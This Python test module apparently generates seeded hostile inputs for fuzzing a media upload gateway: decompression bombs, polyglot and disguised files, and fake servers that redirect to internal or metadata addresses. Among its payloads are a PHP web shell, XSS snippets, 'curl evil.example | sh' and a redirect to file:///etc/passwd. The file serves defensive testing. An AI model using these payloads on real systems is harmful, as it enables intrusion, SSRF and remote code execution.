"""Hostile files and servers, made from seeds: the same seed makes the same one."""

import random
import struct
from collections.abc import Callable, Iterator
from typing import NamedTuple

from tests.engine.customer import answer
from tests.media import samples
from tests.media.site import Behaviour, endless, moved, raw, whole

OK = b"HTTP/1.1 200 OK\r\n"
_PICTURES = ("JPEG", "PNG", "GIF", "WEBP")


class Hostile(NamedTuple):
    """A file as it comes: its bytes, the name and the type that it claims."""

    data: bytes
    name: str
    declared: str | None = None


def _picture(rng: random.Random) -> tuple[str, bytes]:
    kind = rng.choice(_PICTURES)
    return kind, samples.picture(kind, (rng.randint(4, 60), rng.randint(4, 60)), seed=rng.randrange(10**6))


def _any(rng: random.Random) -> tuple[str, bytes]:
    """A good file of any kind, with a good name."""
    if rng.random() < 0.5:
        kind, data = _picture(rng)
        return f"a.{kind.lower()}", data
    made = {
        "a.mp4": samples.film(weight=rng.randint(10, 4000), index_last=rng.random() < 0.5),
        "a.mov": samples.film(brand=b"qt  ", weight=rng.randint(10, 4000)),
        "a.docx": samples.document(),
        "a.pdf": samples.PDF.rstrip(),
    }
    return rng.choice(list(made.items()))


# -- Files ------------------------------------------------------------------------------------------------------------


def bombs(rng: random.Random) -> Hostile:
    """Small files that claim to be enormous once opened."""
    kind = rng.choice(("png", "jpeg", "gif", "webp", "frames"))
    wide, high = rng.randint(7100, 65_000), rng.randint(7100, 65_000)
    if kind == "png":
        return Hostile(samples.bomb(wide * rng.choice((1, 1000)), high), "a.png")
    if kind == "jpeg":
        data = bytearray(samples.picture("JPEG"))
        at = data.index(b"\xff\xc0") + 5
        data[at : at + 4] = struct.pack(">HH", high, wide)
        return Hostile(bytes(data), "a.jpg")
    if kind == "gif":
        data = bytearray(samples.picture("GIF"))
        data[6:10] = struct.pack("<HH", wide, high)
        return Hostile(bytes(data), "a.gif")
    if kind == "webp":
        # An extended head says the size of the canvas in three bytes each.
        data = bytearray(samples.picture("WEBP", lossless=True, exif=b"Exif\0\0" + bytes(20)))
        data[24:30] = (wide - 1).to_bytes(3, "little") + (high - 1).to_bytes(3, "little")
        return Hostile(bytes(data), "a.webp")
    return Hostile(samples.flicker(rng.randint(1001, 3000)), "a.gif")


def cut_short(rng: random.Random) -> Hostile:
    """Good files that end too early."""
    name, data = _any(rng)
    return Hostile(data[: rng.randint(1, len(data) - rng.choice((1, 8, 20)))], name)


def doubles(rng: random.Random) -> Hostile:
    """Files that are two things at once."""
    name, data = _any(rng)
    other = rng.choice((samples.archive("a", "b"), samples.document(), samples.archive("META-INF/MANIFEST.MF")))
    if name.endswith(".docx"):
        name, data = "a.png", samples.picture("PNG")
    if not name.endswith((".mp4", ".mov", ".pdf")) and rng.random() < 0.6:
        markup = (b"<script>alert(1)</script>", b"<svg onload=a()>", b"<?php system($_GET[0]); ?>", b"<!DOCTYPE html>")
        other = rng.choice((*markup, samples.PDF, b"\x7fELF\2\1\1", b"Rar!\x1a\x07\1"))
    return Hostile(data + rng.randbytes(rng.randint(0, 40)) + other, name)


def disguised(rng: random.Random) -> Hostile:
    """Things that are not taken, under the names and types of things that are."""
    bodies = (
        samples.SVG,
        b"<html><body onload=alert(1)>",
        b"#!/bin/sh\ncurl evil.example | sh\n",
        b"MZ\x90\0" + rng.randbytes(60),
        b"\x7fELF" + rng.randbytes(60),
        b"\xca\xfe\xba\xbe" + rng.randbytes(60),
        samples.archive("payload.exe"),
        b"\x1f\x8b\x08" + rng.randbytes(60),
        b"7z\xbc\xaf\x27\x1c" + rng.randbytes(60),
        b"CWS" + rng.randbytes(60),
        b"\0\0\0\x18ftypheic" + rng.randbytes(60),
        b"\x1a\x45\xdf\xa3" + rng.randbytes(60),
        b"\xfe\xff" + "<script>".encode("utf-16-be"),
        b"",
    )
    name = rng.choice(("a.jpg", "a.png", "a.gif", "a.mp4", "a.pdf", "a.docx", "a.svg", "a.html", "a.js", "a"))
    return Hostile(rng.choice(bodies), name, rng.choice((None, "image/jpeg", "image/png", "video/mp4")))


def garbage(rng: random.Random) -> Hostile:
    """The beginning of a good file, and noise."""
    beginnings = (
        (b"\xff\xd8\xff\xe0", "a.jpg"),
        (b"\x89PNG\r\n\x1a\n", "a.png"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "a.png"),
        (b"GIF89a", "a.gif"),
        (b"RIFF\xff\xff\xff\xffWEBPVP8 ", "a.webp"),
        (b"RIFF\x40\0\0\0WEBPVP8L", "a.webp"),
        (b"\0\0\0\x18ftypisom", "a.mp4"),
        (b"\0\0\0\x08moov", "a.mov"),
    )
    beginning, name = rng.choice(beginnings)
    return Hostile(beginning + rng.randbytes(rng.randint(0, 3000)), name)


def misnamed(rng: random.Random) -> Hostile:
    """Good files that are called something else."""
    kind, data = _picture(rng)
    wrong = [t for t in ("image/jpeg", "image/png", "image/gif", "image/webp") if not t.endswith(kind.lower())]
    return Hostile(data, "a.jpg", rng.choice([*wrong, "video/mp4", "text/html", "image/svg+xml", "application/pdf"]))


def films(rng: random.Random) -> Hostile:
    """Films whose boxes lie."""
    lies = (
        samples.box(b"ftyp", b"isom") + samples.box(b"free", b"") * rng.randint(1001, 3000),
        samples.box(b"ftyp", b"isom") + struct.pack(">I4s", rng.randint(2, 7), b"moov") + rng.randbytes(40),
        samples.box(b"ftyp", b"isom") + struct.pack(">I4sQ", 1, b"mdat", 2 ** rng.randint(33, 63)) + rng.randbytes(40),
        samples.box(b"ftyp", b"isom") + samples.box(b"moov", struct.pack(">I4s", 2**31, b"trak") + bytes(50)),
        samples.box(b"ftyp", b"isom") + samples.box(b"moov", samples.box(b"mvhd", bytes(rng.randint(0, 15)))),
        samples.box(b"ftyp", b"isom") + samples.box(b"mdat", rng.randbytes(rng.randint(0, 500))),
    )
    return Hostile(rng.choice(lies), "a.mp4")


FILES: dict[str, Callable[[random.Random], Hostile]] = {
    made.__name__: made for made in (bombs, cut_short, doubles, disguised, garbage, misnamed, films)
}


# -- Servers ----------------------------------------------------------------------------------------------------------

#: Where nobody outside may lead the gateway: every address here is refused, as it stands or once its name was resolved.
INSIDE = (
    "127.0.0.2", "127.1.2.3", "[::1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0.0.0.0",
    "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "[fe80::1]", "[fd00::1]", "100.64.0.1",
    "localhost", "inside.example", "mixed.example", "2130706433", "0x7f.1", "127.1", "017700000001", "168.63.129.16",
)  # fmt: skip


def inward(rng: random.Random, _sent: list[int]) -> Behaviour:
    """A redirect to the inside."""
    scheme = rng.choice(("http", "http", "https", ""))
    where = f"{scheme}{':' if scheme else ''}//{rng.choice(INSIDE)}{rng.choice(('', ':22', ':8080', ':5432'))}/x"
    return moved(where, rng.choice((301, 302, 303, 307, 308)))


def elsewhere(rng: random.Random, _sent: list[int]) -> Behaviour:
    """A redirect to what is no web address, or in a circle."""
    places = (
        "file:///etc/passwd",
        "gopher://x.example/",
        "/a.jpg",
        "?again",
        "data:image/png,x",
        "http://u:p@x.example/",
        "http:///x",
        "http://x.example:99999/",
        "http://[::1/",
    )
    return moved(rng.choice(places))


def without_end(rng: random.Random, sent: list[int]) -> Behaviour:
    """A head or a body that never ends."""
    if rng.random() < 0.3:
        return endless(OK, b"x-more: " + b"y" * 5000 + b"\r\n", sent)
    heads = (
        OK + b"content-type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0",
        OK + b"transfer-encoding: chunked\r\n\r\n7fffffff\r\n\x89PNG\r\n\x1a\n",
        OK + b"content-length: 400000\r\n\r\n",
    )
    return endless(rng.choice(heads), rng.randbytes(65_536), sent)


def silent(rng: random.Random, _sent: list[int]) -> Behaviour:
    """A server that stops in the middle, and keeps the connection."""
    said = OK + b"content-type: image/png\r\ncontent-length: 5000\r\n\r\n" + samples.picture("PNG")
    return raw(said[: rng.randint(0, len(OK) + 150)], then_close=False)


def broken(rng: random.Random, _sent: list[int]) -> Behaviour:
    """An answer that is none, or that breaks off."""
    data = samples.picture("JPEG")
    return raw(
        rng.choice(
            (
                b"",
                b"SSH-2.0-x\r\n",
                rng.randbytes(200),
                OK + b"content-length: %d\r\n\r\n" % (len(data) + 1) + data,
                OK + b"transfer-encoding: chunked\r\n\r\nzz\r\n",
                OK + b"content-length: 99999999999999\r\n\r\n" + data,
                OK + b"content-encoding: gzip\r\n\r\n\x1f\x8b\x08" + rng.randbytes(50),
                answer(rng.choice((204, 206, 400, 401, 403, 404, 429, 500, 503)), data),
            )
        )
    )


def lying(rng: random.Random, _sent: list[int]) -> Behaviour:
    """A server that gives a hostile file, or calls a good one something else."""
    made = FILES[rng.choice(list(FILES))](rng)
    return whole(made.data, made.declared or rng.choice(("image/svg+xml", "text/html", "application/x-sh")))


SERVERS: dict[str, Callable[[random.Random, list[int]], Behaviour]] = {
    made.__name__: made for made in (inward, elsewhere, without_end, silent, broken, lying)
}


def seeds(name: str, count: int) -> Iterator[random.Random]:
    for number in range(count):
        yield random.Random(f"{name} {number}")
